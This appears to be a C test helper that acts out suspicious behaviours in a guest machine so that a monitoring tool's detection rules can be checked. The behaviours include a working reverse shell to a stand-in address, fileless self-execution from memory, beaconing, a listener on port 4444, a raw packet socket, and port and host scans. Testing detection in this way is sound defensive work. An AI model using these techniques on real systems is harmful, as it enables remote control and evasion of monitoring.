// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What the shipped rules of a watch are about, one thing for each word, harmless and real: done in
 * a guest for the test of the rules. Each says READY once it is done, and stays a while.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define HOME "198.51.100.1"
#define PORT 9009
#define DOORS 20000
#define DOOR_COUNT 25
#define STAY 5
#define BEATS 14
#define BEAT 6 /* seconds */
#define HELD_MAX 256

static void need(int good, const char *what)
{
	if (!good) {
		perror(what);
		exit(1);
	}
}

static void stay(void)
{
	puts("READY");
	fflush(stdout);
	sleep(STAY);
}

static int open_to(const char *host, uint16_t port, int flags)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	int s = socket(AF_INET, SOCK_STREAM | flags, 0);

	inet_pton(AF_INET, host, &a.sin_addr);
	need(s >= 0, "socket");
	/* One that does not wait need not succeed: that it is tried is enough. */
	need(!connect(s, (struct sockaddr *)&a, sizeof(a)) || flags, "connect");
	return s;
}

static int listen_on(uint16_t port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	need(s >= 0 && !bind(s, (struct sockaddr *)&a, sizeof(a)) && !listen(s, 64), "listen");
	return s;
}

/* Takes what comes on all the ports that the others connect with, until they close it. */
static void serve(void)
{
	struct pollfd held[HELD_MAX];
	int listeners = 0, count;
	char bytes[256];

	held[listeners++].fd = listen_on(PORT);
	for (uint16_t i = 0; i < DOOR_COUNT; i++)
		held[listeners++].fd = listen_on(DOORS + i);
	puts("READY");
	fflush(stdout);
	for (count = listeners;;) {
		for (int i = 0; i < count; i++)
			held[i].events = POLLIN;
		need(poll(held, (nfds_t)count, -1) > 0, "poll");
		for (int i = count - 1; i >= 0; i--) {
			if (!held[i].revents)
				continue;
			if (i < listeners) {
				need(count < HELD_MAX, "room");
				held[count].revents = 0;
				held[count++].fd = accept(held[i].fd, NULL, NULL);
			} else if (read(held[i].fd, bytes, sizeof(bytes)) <= 0) {
				close(held[i].fd);
				held[i] = held[--count];
			}
		}
	}
}

static void shell(void)
{
	int s = open_to(HOME, PORT, 0);

	puts("READY");
	fflush(stdout);
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	close(s);
	execl("/bin/sh", "sh", (char *)NULL);
}

/* The program runs on from memory, as another word of this one. */
static void from_memory(void)
{
	int self = open("/proc/self/exe", O_RDONLY), memory = memfd_create("x", 0);
	char *const arguments[] = {"suspect", "hold", NULL}, *const none[] = {NULL};
	char bytes[4096];
	ssize_t n;

	while ((n = read(self, bytes, sizeof(bytes))) > 0)
		need(write(memory, bytes, (size_t)n) == n, "write");
	close(self);
	fexecve(memory, arguments, none);
}

static void many(const char *pattern, int hosts, int port, int ports)
{
	char host[32];

	for (int i = 0; i < hosts; i++)
		for (int p = 0; p < ports; p++) {
			snprintf(host, sizeof(host), pattern, i + 1);
			open_to(host, (uint16_t)(port + p), SOCK_NONBLOCK);
		}
	stay();
}

static void beacon(void)
{
	for (int i = 0; i < BEATS; i++) {
		close(open_to(HOME, PORT, 0));
		sleep(BEAT);
	}
	puts("READY");
}

int main(int argc, char **argv)
{
	const char *what = argc == 2 ? argv[1] : "";

	if (!strcmp(what, "gone")) { /* before anybody has looked */
		need(!unlink("/tmp/gone"), "unlink");
		sleep(1);
		what = "hold";
	}
	if (!strcmp(what, "serve")) {
		serve();
	} else if (!strcmp(what, "door")) {
		listen_on(4444);
		stay();
	} else if (!strcmp(what, "shell")) {
		shell();
	} else if (!strcmp(what, "hold")) {
		open_to(HOME, PORT, 0);
		stay();
	} else if (!strcmp(what, "memory")) {
		from_memory();
	} else if (!strcmp(what, "packet")) {
		need(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) >= 0, "socket");
		stay();
	} else if (!strcmp(what, "ports")) {
		many(HOME, 1, DOORS, DOOR_COUNT);
	} else if (!strcmp(what, "few-ports")) {
		many(HOME, 1, DOORS, 5);
	} else if (!strcmp(what, "filtered")) {
		many("203.0.114.9", 1, 1, 30);
	} else if (!strcmp(what, "hosts")) {
		many("203.0.115.%d", 30, 22, 1);
	} else if (!strcmp(what, "listed")) {
		many("203.0.113.%d", 1, 443, 1);
	} else if (!strcmp(what, "beacon")) {
		beacon();
	} else {
		return 2;
	}
	return 0;
}
